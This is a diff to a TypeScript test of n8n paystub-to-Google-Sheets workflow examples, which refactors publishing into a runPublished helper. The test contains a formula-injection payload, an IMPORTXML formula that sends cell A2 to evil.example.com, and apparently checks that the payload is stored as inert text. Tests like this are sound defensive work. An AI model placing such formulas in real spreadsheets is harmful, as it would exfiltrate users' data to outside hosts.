@@ -2,7 +2,7 @@ import { randomUUID } from 'node:crypto';
 import type { FakeArgyle, StoredRecord } from '../support/fakeArgyle/index.mts';
 import { type FakeGoogle, FORMULA } from '../support/fakeGoogle.mts';
 import { isJson, type Json } from '../support/json.mts';
-import { readExamples, runByHand } from '../support/n8n/example.mts';
+import { readExamples, runByHand, runPublished } from '../support/n8n/example.mts';
 import { chosen, type ExampleFixture } from './exampleFixture.mts';
 
 export const SHEET = { parameters: { documentId: chosen('the-spreadsheet'), sheetName: chosen('gid=0') } };
@@ -66,12 +66,11 @@ export function sheetExampleTests(fixture: () => ExampleFixture): void {
 		const { client, argyle, google, importWorkflow } = fixture();
 		google.rows.length = 0;
 		const workflow = await importWorkflow('paystubs-to-sheet.json', { 'Add Rows': SHEET });
-		await client.publish(workflow);
 		const employer = '=IMPORTXML("https://evil.example.com/?"&A2, "//a")';
-		await addPaystubs(argyle, 1, { employer, hours: null });
-		const [execution] = await client.waitForExecutions(workflow.id, 1);
-		await client.unpublish(workflow.id);
-		expect(execution?.status).toBe('success');
+		const { status } = await runPublished(client, workflow, async () => {
+			await addPaystubs(argyle, 1, { employer, hours: null });
+		});
+		expect(status).toBe('success');
 		const [head = [], row = []] = google.rows;
 		expect(row[head.indexOf('employer')]).toBe(employer);
 		expect(row[head.indexOf('hours')] ?? '').toBe('');
